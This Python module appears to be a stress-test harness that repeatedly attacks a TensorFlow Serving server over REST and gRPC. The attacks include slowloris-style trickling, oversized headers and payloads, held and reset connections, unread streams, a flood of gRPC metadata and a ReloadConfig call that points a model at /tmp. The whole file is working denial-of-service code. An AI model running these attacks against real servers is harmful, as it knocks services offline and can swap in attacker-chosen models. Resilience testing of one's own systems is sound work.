"""Attacks on a server, each at a given rate.

Each attack is done again and again by a thread, until it is told to stop; it tells what
became of it, in a word: a status, or that the connection was closed.
"""

import http.client
import json
import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import grpc
import numpy as np
import tensorflow as tf
from tensorflow_serving.apis import (
    model_management_pb2,
    model_service_pb2_grpc,
    predict_pb2,
    prediction_service_pb2_grpc,
)

_GOLDEN = (5**0.5 - 1) / 2
PATIENCE = 40.0  # seconds that a connection is watched
CLOSED = "closed"
_LETTING_GO = 2.0  # seconds until one that is told to stop has told what it got


@dataclass(frozen=True)
class Victim:
    """The addresses and the model of the attacked server.

    Attributes:
        rest: `HOST:PORT`.
        rpc: The same for gRPC.
        reader: A model that takes a text.
        writer: A model that writes.
    """

    rest: str
    rpc: str
    reader: str
    writer: str

    def connect(self) -> socket.socket:
        url = urlsplit(f"//{self.rest}")
        return socket.create_connection((url.hostname, url.port), PATIENCE)

    def post(self, model: str, method: str, body: object) -> str:
        """A status."""
        connection = http.client.HTTPConnection(self.rest, timeout=PATIENCE)
        try:
            path = f"/v1/models/{model}:{method}"
            connection.request("POST", path, json.dumps(body))
            response = connection.getresponse()
            response.read()
            return str(response.status)
        finally:
            connection.close()


Attack = Callable[[Victim, threading.Event], str]


def _sent(victim: Victim, chunks: Callable[[], bytes], most: int) -> str:
    """Sends up to so many bytes; what comes back, or that nothing does."""
    with victim.connect() as connection:
        sent = 0
        try:
            while sent < most:
                chunk = chunks()
                connection.sendall(chunk)
                sent += len(chunk)
            answer = connection.recv(64)
        except OSError:
            with suppress(OSError):
                answer = connection.recv(64)
                if answer.startswith(b"HTTP"):
                    return answer.split()[1].decode()
            return CLOSED
        return answer.split()[1].decode() if answer.startswith(b"HTTP") else CLOSED


def headers(victim: Victim, stop: threading.Event) -> str:
    """A hundred megabytes of headers."""
    head = iter([b"GET /livez HTTP/1.1\r\nHost: x\r\n"])
    line = b"X-a: " + b"a" * 1000 + b"\r\n"
    return _sent(victim, lambda: next(head, line * 64), 100 * 2**20)


def request_line(victim: Victim, stop: threading.Event) -> str:
    """A path of ten megabytes."""
    head = iter([b"GET /"])
    return _sent(victim, lambda: next(head, b"a" * 2**16), 10 * 2**20)


def silent(victim: Victim, stop: threading.Event) -> str:
    """A hundred connections at each door that say nothing."""
    held = []
    try:
        for address in [victim.rest, victim.rpc] * 50:
            url = urlsplit(f"//{address}")
            with suppress(OSError):
                held.append(socket.create_connection((url.hostname, url.port), 5))
        stop.wait(PATIENCE)
        return "held"
    finally:
        for connection in held:
            connection.close()


def trickle(victim: Victim, stop: threading.Event) -> str:
    """A request whose head comes a byte a second."""
    with victim.connect() as connection:
        for byte in b"POST /v1/models/a:predict HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 60:
            if stop.wait(1.0):
                break
            try:
                connection.sendall(bytes([byte]))
            except OSError:
                return CLOSED
        connection.settimeout(1.0)
        with suppress(OSError):
            answer = connection.recv(64)
            return answer.split()[1].decode() if answer else CLOSED
        return "held"


def half_open(victim: Victim, stop: threading.Event) -> str:
    """Questions whose clients reset the connection at once."""
    body = json.dumps({"instances": ["a text"]}).encode()
    head = f"POST /v1/models/{victim.reader}:predict HTTP/1.1\r\nHost: x\r\n"
    for _ in range(20):
        with victim.connect() as connection:
            connection.sendall(
                head.encode() + b"Content-Length: %d\r\n\r\n" % len(body) + body
            )
            linger = struct.pack("ii", 1, 0)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
    return "reset"


def slow_reader(victim: Victim, stop: threading.Event) -> str:
    """Questions with large answers, one behind the other, that nobody reads."""
    rows = ["a word " * 20] * 4  # an answer of 2 MB
    body = json.dumps({"signature_name": "attention", "instances": rows}).encode()
    head = f"POST /v1/models/{victim.reader}:predict HTTP/1.1\r\nHost: x\r\n"
    with victim.connect() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        with suppress(OSError):
            for _ in range(20):
                connection.sendall(
                    head.encode() + b"Content-Length: %d\r\n\r\n" % len(body) + body
                )
        stop.wait(PATIENCE)
        return "held"


def unread_stream(victim: Victim, stop: threading.Event) -> str:
    """A text over gRPC that nobody reads."""
    with grpc.insecure_channel(victim.rpc) as channel:
        call = channel.unary_stream(
            "/tensorflow.serving.PredictionService/PredictStreamed",
            request_serializer=predict_pb2.PredictRequest.SerializeToString,
            response_deserializer=predict_pb2.PredictResponse.FromString,
        )
        request = predict_pb2.PredictRequest()
        request.model_spec.name = victim.writer
        request.inputs["text"].CopyFrom(tf.make_tensor_proto(["a"]))
        asked = call(request)
        stop.wait(5.0)
        asked.cancel()
        return "left"


def rows(victim: Victim, stop: threading.Event) -> str:
    """Twenty thousand rows."""
    return victim.post(victim.reader, "predict", {"instances": ["a text"] * 20_000})


def many_rows(victim: Victim, stop: threading.Event) -> str:
    """Ten thousand rows, which are let in."""
    return victim.post(victim.reader, "predict", {"instances": ["a text"] * 10_000})


def long_text(victim: Victim, stop: threading.Event) -> str:
    """A text of 1 MB, which is let in."""
    return victim.post(victim.reader, "predict", {"instances": ["ab " * 349_000]})


def longer_text(victim: Victim, stop: threading.Event) -> str:
    """A text of 4 MB."""
    return victim.post(victim.reader, "predict", {"instances": ["ab " * 1_333_333]})


def stop_string(victim: Victim, stop: threading.Event) -> str:
    """A stream that is to end at a string of 400 KB."""
    body = {"text": "a", "stop": ["a" * 400_000]}
    return victim.post(victim.writer, "stream", body)


def reload(victim: Victim, stop: threading.Event) -> str:
    """Another configuration, of a path of the client's."""
    with grpc.insecure_channel(victim.rpc) as channel:
        request = model_management_pb2.ReloadConfigRequest()
        request.config.model_config_list.config.add(name="evil", base_path="/tmp")
        stub = model_service_pb2_grpc.ModelServiceStub(channel)
        return _status(lambda: stub.HandleReloadConfigRequest(request, PATIENCE))


def metadata(victim: Victim, stop: threading.Event) -> str:
    """A megabyte of gRPC metadata."""
    with grpc.insecure_channel(victim.rpc) as channel:
        stub = prediction_service_pb2_grpc.PredictionServiceStub(channel)
        request = predict_pb2.PredictRequest()
        request.model_spec.name = victim.reader
        values = np.array([b"a"], object)
        request.inputs["text"].CopyFrom(tf.make_tensor_proto(values))
        much = [(f"x-{number}", "a" * 10_000) for number in range(100)]
        return _status(lambda: stub.Predict(request, PATIENCE, metadata=much))


def _status(ask: Callable[[], object]) -> str:
    try:
        ask()
    except grpc.RpcError as error:
        return error.code().name  # type: ignore[attr-defined]
    return "OK"


# How many seconds from one to the next.
RATES: dict[Attack, float] = {
    headers: 2.0,
    request_line: 1.0,
    silent: 10.0,
    trickle: 2.0,
    half_open: 1.0,
    slow_reader: 5.0,
    unread_stream: 2.0,
    rows: 1.0,
    many_rows: 30.0,
    long_text: 30.0,
    longer_text: 2.0,
    stop_string: 1.0,
    reload: 1.0,
    metadata: 1.0,
}


@dataclass
class Attackers:
    """Threads that attack until they are told to stop.

    Attributes:
        victim: The server.
        attacks: What is done to it.
        became: What came of each attack.
    """

    victim: Victim
    attacks: tuple[Attack, ...]
    became: dict[str, Counter[str]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []
        self._under_way: set[threading.Thread] = set()
        for number, attack in enumerate(self.attacks):
            self.became[attack.__name__] = Counter()
            # Attackers do not wait for each other: no two begin at the same moment.
            wait = number * _GOLDEN % 1.0 * RATES[attack]
            thread = threading.Thread(
                target=self._again, args=(attack, wait), daemon=True
            )
            self._threads.append(thread)
            thread.start()

    def close(self) -> None:
        """Stops them; those that hold something let it go."""
        self._stop.set()
        for thread in self._threads:
            thread.join(PATIENCE)
        for thread in list(self._under_way):
            thread.join(_LETTING_GO)

    def _again(self, attack: Attack, wait: float) -> None:
        """One after the other in time, whether the one before has ended or not."""
        due = time.monotonic() + wait
        while not self._stop.wait(max(0.0, due - time.monotonic())):
            due += RATES[attack]
            thread = threading.Thread(target=self._once, args=(attack,), daemon=True)
            self._under_way.add(thread)
            thread.start()

    def _once(self, attack: Attack) -> None:
        try:
            found = attack(self.victim, self._stop)
        except OSError as error:
            found = type(error).__name__
        self.became[attack.__name__][found] += 1
        self._under_way.discard(threading.current_thread())
